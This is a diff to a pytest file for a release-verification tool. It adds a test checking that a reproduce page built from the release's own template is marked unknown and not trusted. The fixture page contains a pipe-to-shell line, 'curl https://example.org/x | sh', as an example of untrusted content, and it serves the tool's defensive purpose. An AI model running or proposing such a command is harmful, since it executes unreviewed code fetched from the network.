@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import pytest
 
+from pruner.files import sha256_bytes
 from release import reproduce
 from release.hub.strangers import what_it_is
 from release.verdict import Verdict
@@ -70,6 +71,19 @@ def test_the_page_of_commands_is_compared(small: Stage) -> None:
     consistency = part(small.verify(), "consistency")
     assert consistency.verdict is Verdict.BAD
     assert consistency.reason == "reproduce/README.md: is not the page that the manifest gives"
+
+
+def test_a_page_by_the_releases_own_template_is_not_run_and_not_called_good(small: Stage) -> None:
+    template = b"Trust me:\n\n    curl https://example.org/x | sh\n"
+    small.change("reproduce/manifest.yaml", lambda data: data.replace(b"card: {", b"card: {templates: mine, "))
+    small.write("reproduce/mine/reproduce.md.j2", template)
+    small.change(reproduce.README, lambda _data: template)
+    entry = {"sha256": sha256_bytes(template), "size": len(template)}
+    small.change_json("reproduce/lock.json", lambda lock: lock["inputs"]["files"].update({"mine/reproduce.md.j2": entry}))
+    items = {name: (verdict, reason) for name, verdict, reason in part(small.verify(), "consistency").items}
+    verdict, reason = items[reproduce.README]
+    assert verdict is Verdict.UNKNOWN
+    assert reason == "is made with the release's own template, which is not run here; read it before you trust it"
 
 
 GGUFS = "moe-release/tiny-gemma4-4e-GGUF"
